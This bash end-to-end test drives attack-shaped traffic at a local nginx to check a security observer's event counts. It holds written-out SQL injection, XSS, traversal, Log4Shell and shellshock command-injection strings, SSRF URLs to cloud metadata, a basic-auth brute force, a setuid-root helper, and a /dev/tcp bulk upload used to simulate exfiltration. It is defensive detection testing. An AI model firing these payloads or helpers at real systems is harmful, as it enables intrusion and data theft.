#!/usr/bin/env bash
# SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
#
# Security events from real attacks on loopback, and none from benign
# traffic. nginx with HTTP basic auth takes a password brute force (one
# auth_failure_burst for the burst, not one per try); curl sends SQL
# injection, XSS, traversal and sensitive-path requests taken from the
# corpora in tests/data/security, command injection (shell, Log4Shell and
# shellshock, the last two also in the User-Agent) and SSRF (metadata,
# gopher, disguised loopback) requests (each one event of its type) and a 404
# sweep (one scanner event); benign requests with apostrophes and SQL words
# in prose raise nothing. A set-user-ID-root helper run by an unprivileged
# user gives privilege_escalation events (the exec, and with capture.hooks:
# syscall its setuid(0)); the
# same helper run by root and an ordinary binary run by nobody give none;
# a helper with a file capability run by nobody is one.
# A 20 MiB upload to an address in a network namespace the test creates is
# one data_exfiltration; 1 MiB there and 20 MiB to loopback are none.
# Counts must be exact in /metrics and GET /logs/security, and the
# password never appears in anything the observer writes or answers.
set -uo pipefail
export BT_READY_TIMEOUT=${BT_READY_TIMEOUT:-30}
# shellcheck source=tests/e2e/lib.sh
. "$(dirname "$0")/lib.sh"
bt_init security
export BT_OBS_LOG_FORMAT=json # this test also holds the JSON log format to its word
bt_need_cmd nginx openssl gcc setpriv ip setcap

OBS=19497
NGX=18701
PASS=Secr3t-$(openssl rand -hex 8)
printf 'admin:%s\n' "$(openssl passwd -apr1 "$PASS")" >"$BT_TMP/htpasswd"
# (not "return": it runs before the access phase and would skip the password check)
BT_NGX_EXTRA="        location /admin/ { auth_basic \"lab\"; auth_basic_user_file $BT_TMP/htpasswd; alias $BT_TMP/nginx/html/; }"
NS=bt-sec-$$
VETH=btsec$$
BT_NETNS+=("$NS") # lib.sh's cleanup deletes it, and the veth pair with it
cat >"$BT_TMP/observer.yaml" <<EOF2
security:
  exfil_bytes: 5MiB
  exfil_window: 1m
EOF2
bt_observer_start "$OBS" --config "$BT_TMP/observer.yaml"
bt_nginx_start "$NGX"
URL=http://127.0.0.1:$NGX

get() { curl -s -o /dev/null --max-time 5 --path-as-is "$@"; }

bt_log "benign traffic first: it must raise nothing"
for q in "O%27Brien" "I%27d+like+to+select+a+union+rep" "order+by+relevance" "drop+me+a+line" \
	"1+and+2" "caf%C3%A9+%26+cr%C3%A8me" "x+%3C+y+and+y+%3E+z" "email%3Dann%40example.org"; do
	get "$URL/small.txt?q=$q"
done
get "$URL/index.html"
get "$URL/status/404"

bt_log "password brute force on basic auth"
for i in 1 2 3 4 5 6 7; do get -u "admin:wrong$i" "$URL/admin/"; done
[ "$(curl -s -o /dev/null -w '%{http_code}' --max-time 5 -u "admin:$PASS" "$URL/admin/")" = 200 ] ||
	bt_check_fail "right password refused"
[ "$(curl -s -o /dev/null -w '%{http_code}' --max-time 5 -u "admin:wrong" "$URL/admin/")" = 401 ] ||
	bt_check_fail "wrong password not refused with 401"

bt_log "injection, xss, traversal, sensitive paths"
SQLI=("/search?q=%27%20OR%20%271%27%3D%271" "/search?id=1%20UNION%20SELECT%20NULL%2Cversion()--"
	"/item?id=1%3BDROP%20TABLE%20users" "/item?id=1%20AND%20SLEEP(5)" "/login?user=admin%27--")
XSS=("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E" "/p?x=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")
TRAV=("/static/..%2f..%2f..%2fsrv%2fdata.txt" "/download?file=..%2F..%2F..%2Fopt%2Fapp%2Fconfig.yml")
SENS=("/.env" "/.git/config" "/wp-login.php")
CMDI=("/ping?host=127.0.0.1%3Bid" "/exec?cmd=%24(whoami)" "/?q=%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.1%2Fa%7D")
SSRF=("/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"
	"/fetch?url=gopher%3A%2F%2F127.0.0.1%3A6379%2F_x" "/proxy?u=http%3A%2F%2F0x7f000001%3A2375%2Fv1")
for p in "${SQLI[@]}" "${XSS[@]}" "${TRAV[@]}" "${SENS[@]}" "${CMDI[@]}" "${SSRF[@]}"; do
	get "$URL$p"
done
# Log4Shell and shellshock in the User-Agent: two more command injections
get -A '${jndi:ldap://10.0.0.1/a}' "$URL/index.html"
get -A '() { :; }; /bin/bash -c id' "$URL/small.txt"

bt_log "a 404 sweep from one client"
for i in $(seq 1 25); do get "$URL/nothing-here-$i"; done

bt_log "set-user-ID-root helper run by nobody"
printf '#include <unistd.h>\nint main(void) { return setuid(0) ? 1 : 0; }\n' >"$BT_TMP/gainroot.c"
gcc -O0 -o "$BT_TMP/gainroot" "$BT_TMP/gainroot.c" || bt_fail "cannot build the helper"
chown root:root "$BT_TMP/gainroot"
chmod 4755 "$BT_TMP/gainroot"
setpriv --reuid=65534 --regid=65534 --clear-groups "$BT_TMP/gainroot" ||
	bt_check_fail "the helper did not gain root (nosuid mount?)"
"$BT_TMP/gainroot" # root already: nothing to report
setpriv --reuid=65534 --regid=65534 --clear-groups /bin/true

bt_log "a helper with a file capability, run by nobody (it raises it with capset)"
cat >"$BT_TMP/capraise.c" <<'EOF3'
#include <linux/capability.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(void)
{
	struct __user_cap_header_struct h = { _LINUX_CAPABILITY_VERSION_3, 0 };
	struct __user_cap_data_struct d[2];

	if (syscall(SYS_capget, &h, d))
		return 1;
	d[0].effective |= d[0].permitted;
	return syscall(SYS_capset, &h, d) ? 2 : 0;
}
EOF3
gcc -O0 -o "$BT_TMP/capraise" "$BT_TMP/capraise.c" || bt_fail "cannot build the capset helper"
setcap cap_net_bind_service+p "$BT_TMP/capraise" || bt_fail "setcap failed (no xattrs on $BT_TMP?)"
setpriv --reuid=65534 --regid=65534 --clear-groups "$BT_TMP/capraise" ||
	bt_check_fail "the capset helper could not raise its capability"

bt_log "uploads: 20 MiB to a namespace address (not allowed), 1 MiB there, 20 MiB to loopback"
ip netns add "$NS" || bt_fail "cannot create network namespace $NS"
ip link add "$VETH" type veth peer name "${VETH}p" || bt_fail "cannot create veth"
ip link set "${VETH}p" netns "$NS"
ip addr add 10.203.0.1/24 dev "$VETH"
ip link set "$VETH" up
ip -n "$NS" addr add 10.203.0.2/24 dev "${VETH}p"
ip -n "$NS" link set "${VETH}p" up
ip -n "$NS" link set lo up
SINK='import socket, sys, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(8)
def drain(c):
    while c.recv(1 << 16): pass
    c.close()
while True:
    c, _ = s.accept(); threading.Thread(target=drain, args=(c,), daemon=True).start()'
ip netns exec "$NS" "$BT_PY" -c "$SINK" 10.203.0.2 9000 >"$BT_ART/sink-ns.log" 2>&1 &
bt_track $! sink-ns
"$BT_PY" -c "$SINK" 127.0.0.1 18702 >"$BT_ART/sink-lo.log" 2>&1 &
bt_track $! sink-lo
bt_wait_port 18702 10 || bt_fail "loopback sink did not listen"
for i in $(seq 1 50); do
	(exec 3<>/dev/tcp/10.203.0.2/9000) 2>/dev/null && break
	sleep 0.1
done
head -c $((20 << 20)) /dev/zero >/dev/tcp/10.203.0.2/9000 || bt_check_fail "upload to the namespace failed"
head -c $((1 << 20)) /dev/zero >/dev/tcp/10.203.0.2/9000 || bt_check_fail "small upload failed"
head -c $((20 << 20)) /dev/zero >/dev/tcp/127.0.0.1/18702 || bt_check_fail "loopback upload failed"

sleep 1
# setuid(0) itself is seen by the syscall hooks only (docs/security.md)
HOOKS=$(bt_hooks)
PRIV=2
[ "$HOOKS" = syscall ] && PRIV=3
bt_log "capture.hooks: $HOOKS, privilege_escalation events expected: $PRIV"
cat >"$BT_TMP/expected.txt" <<EOF2
auth_failure_burst high 1
sql_injection high ${#SQLI[@]}
xss high ${#XSS[@]}
path_traversal high ${#TRAV[@]}
sensitive_path_access medium ${#SENS[@]}
command_injection high $((${#CMDI[@]} + 2))
ssrf high ${#SSRF[@]}
scanner medium 1
privilege_escalation critical $PRIV
data_exfiltration critical 1
EOF2
bt_wait_counts "security events" "$BT_TMP/expected.txt" biothings_security_events_total type,severity ||
	bt_check_fail "security events differ"

curl -s --max-time 5 "http://127.0.0.1:$OBS/logs/security?limit=1000" >"$BT_ART/events.json"
"$BT_PY" - "$BT_ART/events.json" "$HOOKS" <<'PY' || bt_check_fail "GET /logs/security content"
import json, sys
j = json.load(open(sys.argv[1]))
ev = j['events']
by = {}
for e in ev:
    by.setdefault(e['type'], []).append(e)
    for k in ('timestamp', 'type', 'severity', 'source', 'detail', 'pid', 'uid', 'count'):
        assert k in e, (k, e)
a = by['auth_failure_burst'][0]
assert a['source'] == '127.0.0.1' and a['count'] >= 5, a
p = by['privilege_escalation']
syscall_hooks = sys.argv[2] == 'syscall'
assert len(p) == (3 if syscall_hooks else 2) and all(e['uid'] == 65534 for e in p), p
assert any('setuid-root exec' in e['detail'] for e in p), p
assert any(e['detail'].startswith('setuid:') for e in p) == syscall_hooks, p
assert any(e['detail'].startswith('file-capability exec: uid 65534 gained CAP_NET_BIND_SERVICE ') for e in p), p
assert j['total'] == len(ev), (j['total'], len(ev))
x = by['data_exfiltration']
assert len(x) == 1 and x[0]['source'] == '10.203.0.2' and 'port 9000' in x[0]['detail'], x
assert int(x[0]['detail'].split()[0]) >= 20 << 20, x
PY
curl -s -o /dev/null -w '%{http_code}' --max-time 5 "http://127.0.0.1:$OBS/logs/security?limit=0" | grep -q 400 ||
	bt_check_fail "bad limit accepted"
cp "$BT_OBS_LOG" "$BT_TMP/obs.log"
# every event above: 14 from requests, the exfiltration, the privilege ones
EVENTS=$((15 + PRIV))
"$BT_PY" - "$BT_TMP/obs.log" "$EVENTS" <<'PY' || bt_check_fail "the JSON log is not one valid object per line"
import json, sys
seen = {}
for n, line in enumerate(open(sys.argv[1], encoding='utf-8'), 1):
    if not line.startswith('{'):
        continue  # libbpf or shell noise before log_setup is text by design
    e = json.loads(line)
    for k in ('timestamp', 'level', 'category', 'message'):
        assert k in e, (n, k, e)
    assert e['timestamp'].endswith('Z'), e
    seen.setdefault(e['category'], 0)
    seen[e['category']] += 1
    if e['category'] == 'security':
        assert e['fields']['type'] and e['fields']['severity'], e
assert seen.get('security', 0) >= int(sys.argv[2]) and seen.get('audit', 0) >= 1, seen
PY
curl -s --max-time 5 "http://127.0.0.1:$OBS/logs?category=security&limit=1000" >"$BT_ART/logs-security.json"
"$BT_PY" - "$BT_ART/logs-security.json" "$EVENTS" <<'PY' || bt_check_fail "GET /logs does not hold the security events"
import json, sys
j = json.load(open(sys.argv[1]))
entries = j.get('entries', j.get('logs', j if isinstance(j, list) else []))
assert len(entries) >= int(sys.argv[2]), (len(entries), j if len(str(j)) < 2000 else '...')
PY
curl -s -o /dev/null -w '%{http_code}' --max-time 5 "http://127.0.0.1:$OBS/logs?level=loud" | grep -q 400 ||
	bt_check_fail "a bad level was accepted by /logs"
if grep -rqaF -- "$PASS" "$BT_ART/events.json" "$BT_TMP/obs.log" "$BT_STATE_DIR"; then
	bt_check_fail "the basic-auth password appears in what the observer wrote"
fi
bt_check_no_drops
bt_observer_stop_checked
bt_finish
